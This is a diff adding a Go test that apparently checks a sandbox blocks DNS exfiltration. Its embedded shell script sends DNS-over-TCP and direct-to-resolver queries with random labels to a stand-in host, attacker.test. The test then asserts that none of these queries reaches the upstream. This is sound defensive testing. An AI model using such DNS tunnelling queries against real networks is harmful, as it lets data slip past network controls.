@@ -173,6 +173,42 @@ print("rcodes", sorted(rcodes.items(), key=str))
 	}
 }
 
+// TestDNSExfiltrationOtherRoutes: DNS over TCP through the redirect, and
+// queries sent straight to the upstream resolver's own address (UDP and
+// TCP, after an allowed name put 127.0.0.1 in the allowlist) never reach
+// the upstream either.
+func TestDNSExfiltrationOtherRoutes(t *testing.T) {
+	w := newWorld(t)
+	requireTools(t, "dig")
+	host, port, _ := net.SplitHostPort(w.dns.Addr)
+	script := fmt.Sprintf(`getent hosts allowed.test >/dev/null || echo "allowed.test did not resolve"
+for i in $(seq 20); do
+  n=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
+  echo "tcp53 $(dig +tcp +tries=1 +time=3 tcp-$n.attacker.test TXT | grep -o 'status: [A-Z]*')"
+done
+echo "direct-udp $(dig @%[1]s -p %[2]s +tries=1 +time=2 direct-udp.attacker.test A 2>&1 | grep -o 'status: [A-Z]*\|connection refused\|timed out\|not permitted\|no servers' | head -1)"
+echo "direct-tcp $(dig @%[1]s -p %[2]s +tcp +tries=1 +time=2 direct-tcp.attacker.test A 2>&1 | grep -o 'status: [A-Z]*\|connection refused\|timed out\|not permitted\|no servers\|end of file\|reset' | head -1)"
+`, host, port)
+	out, code := w.run(t, "", "sh", "-c", script)
+	if code != 0 || strings.Contains(out, "did not resolve") {
+		t.Fatalf("script: exit %d\n%s", code, out)
+	}
+	t.Logf("sandbox output:\n%s", out)
+	if c := strings.Count(out, "tcp53 status: NXDOMAIN"); c != 20 {
+		t.Errorf("DNS over TCP: %d of 20 answered NXDOMAIN:\n%s", c, out)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(line, "direct-") && strings.Contains(line, "NOERROR") {
+			t.Errorf("a query sent straight to the upstream got an answer: %s", line)
+		}
+	}
+	for _, q := range w.dns.Queries() {
+		if strings.HasSuffix(q, "attacker.test") {
+			t.Errorf("an exfiltration query reached the upstream: %s\n%s", q, out)
+		}
+	}
+}
+
 // listenEach listens on the same TCP port on every address and answers
 // "pong <addr>" to each connection.
 func listenEach(t *testing.T, addrs []string) int {
